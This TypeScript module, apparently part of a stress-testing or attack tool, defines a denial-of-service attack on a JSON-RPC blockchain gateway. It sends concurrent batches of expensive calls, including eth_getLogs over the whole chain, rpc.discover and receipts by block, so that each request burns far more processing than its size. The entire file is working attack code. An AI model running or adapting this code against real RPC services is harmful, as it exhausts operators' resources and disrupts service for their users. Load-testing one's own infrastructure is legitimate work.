// Batches of the gateway's own methods, which no node answers: each call costs the processor much more than its bytes.
import type { Attack } from "./attack.ts";
import { answerTo, overAndOver, postBytes } from "./sockets.ts";

const AT_ONCE = 5;
const MEMBERS = 20;
const METHODS: readonly (readonly [string, readonly unknown[]])[] = [
  ["headgate_usage", []],
  ["rpc.discover", []],
  ["eth_getLogs", [{ fromBlock: "0x0", toBlock: "latest", topics: [`0x${"ab".repeat(32)}`] }]],
  ["eth_getTransactionReceiptsByBlock", ["latest"]],
];

export const ownWork: Attack = {
  name: "own work",
  run: (target, signal) =>
    overAndOver(AT_ONCE, signal, (turn) => {
      const [method, params] = METHODS[turn % METHODS.length] ?? ["rpc.discover", []];
      const batch = Array.from({ length: MEMBERS }, (_, id) => ({
        jsonrpc: "2.0",
        id,
        method,
        params,
      }));
      return answerTo(
        target,
        postBytes(target, JSON.stringify(batch), "Connection: close\r\n"),
        signal,
      );
    }),
};
